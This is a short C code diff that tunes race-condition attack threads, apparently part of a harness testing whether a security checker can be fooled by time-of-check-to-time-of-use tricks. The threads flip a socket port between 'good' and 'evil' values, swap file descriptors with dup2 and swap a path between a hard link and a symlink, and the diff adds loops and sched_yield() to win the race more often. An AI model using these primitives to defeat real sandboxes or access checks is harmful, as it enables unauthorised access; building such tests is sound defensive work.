@@ -1,6 +1,7 @@
 #include "attack.h"
 #include <dirent.h>
 #include <pthread.h>
+#include <sched.h>
 #include <sys/time.h>
 #include <sys/utsname.h>
 #include <time.h>
@@ -12,16 +13,22 @@ static char path_good[200], path_link[200], path_flip[200];
 
 static void *flip_address(void *unused) {
 	while (!stop) {
-		flipped.sin_port = htons(target.evil);
-		flipped.sin_port = htons(target.good);
+		for (int i = 0; i < 100; i++) {
+			flipped.sin_port = htons(target.evil);
+			flipped.sin_port = htons(target.good);
+		}
+		sched_yield(); // else the one that races waits for its turn, not for the lock
 	}
 	return 0;
 }
 
 static void *flip_descriptor(void *unused) {
 	while (!stop) {
-		dup2(pair[0], flipping);
-		dup2(pair[1], flipping);
+		for (int i = 0; i < 20; i++) {
+			dup2(pair[0], flipping);
+			dup2(pair[1], flipping);
+		}
+		sched_yield();
 	}
 	return 0;
 }
@@ -33,6 +40,7 @@ static void *flip_path(void *unused) {
 		if (link(path_good, path_flip)) continue;
 		unlink(path_flip);
 		if (symlink(path_link, path_flip)) continue;
+		sched_yield();
 	}
 	return 0;
 }
